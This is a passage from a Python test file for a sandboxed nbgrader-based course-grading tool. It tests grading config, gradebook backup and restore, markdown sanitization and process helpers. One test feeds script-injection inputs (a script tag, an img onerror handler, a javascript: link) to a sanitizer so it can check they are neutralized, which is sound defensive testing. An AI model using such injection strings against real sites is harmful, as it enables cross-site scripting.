             "c = PyFileConfigLoader('nbgrader_config.py', path='.').load_config()\n"
             "print([p.__name__ for p in c.Autograde.autograde_preprocessors])\n"
             "print([p.__name__ for p in c.Autograde.sanitize_preprocessors])\n")
    result = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split("\n")[:2] == ["['RefuseToGrade']", "['RefuseToGrade']"]
    config = subprocess.run([sys.executable, "-c", probe], cwd=EXERCISES, capture_output=True, text=True)
    assert "SandboxedExecute" in config.stdout and "TamperCheck" in config.stdout


def test_restore_refuses_a_damaged_or_missing_backup(tmp_path):
    gradebook = tmp_path / "gradebook.db"
    with sqlite3.connect(gradebook) as connection:
        connection.execute("CREATE TABLE grade (score REAL)")
    connection.close()
    damaged = tmp_path / "damaged.db"
    damaged.write_bytes(b"not a database" * 100)
    with pytest.raises(ValueError, match="is damaged"):
        backup.restore(gradebook, damaged)
    with pytest.raises(FileNotFoundError, match="backup must be an existing file"):
        backup.restore(gradebook, tmp_path / "missing.db")
    assert backup.list_backups(gradebook) == [], "nothing was replaced, nothing backed up"
    copy_made = backup.back_up(gradebook)
    assert copy_made.parent.name == backup.BACKUP_FOLDER and copy_made.name.startswith("gradebook-")
    assert backup.back_up(tmp_path / "none.db") is None


def test_students_markdown_keeps_math_and_code_but_loses_html():
    from course_grading.preprocessors import inert_markdown
    source = ("Since $a<b$ and $$\\lambda<1$$, `x<y` holds. <script>alert(1)</script> "
              "<img src=x onerror=f()> [link](JavaScript:f())\n```\nif a<b: pass\n```")
    inert = inert_markdown(source)
    assert "$a<b$" in inert and "$$\\lambda<1$$" in inert and "`x<y`" in inert and "if a<b: pass" in inert
    assert "<script>" not in inert and "&lt;script>" in inert and "&lt;img" in inert
    assert "javascript-blocked:f()" in inert


def test_small_helpers():
    from course_grading.execute import human_bytes, message_size
    from course_grading.sandbox import child_processes, covering_folders
    assert human_bytes(512) == "512 bytes" and human_bytes(2**20) == "1.0 MB" and human_bytes(55_000_000) == "52.5 MB"
    assert message_size({"content": {"text": "abc", "data": {"text/plain": "de"}, "traceback": ["f"]}}) == 6
    assert covering_folders(["/a/b", "/a", "/c/d"]) == ["/a", "/c/d"]
    sleeper = subprocess.Popen([sys.executable, "-c", "import subprocess, sys; subprocess.run(['sleep', '2'])"])
    try:
        for _ in range(500):
            children = child_processes(sleeper.pid)
            if children:
                break
            time.sleep(0.01)
        stat = Path(f"/proc/{children[0]}/stat").read_text()
        assert len(children) == 1 and int(stat.rsplit(")", 1)[1].split()[1]) == sleeper.pid
    finally:
        sleeper.kill()
        sleeper.wait()
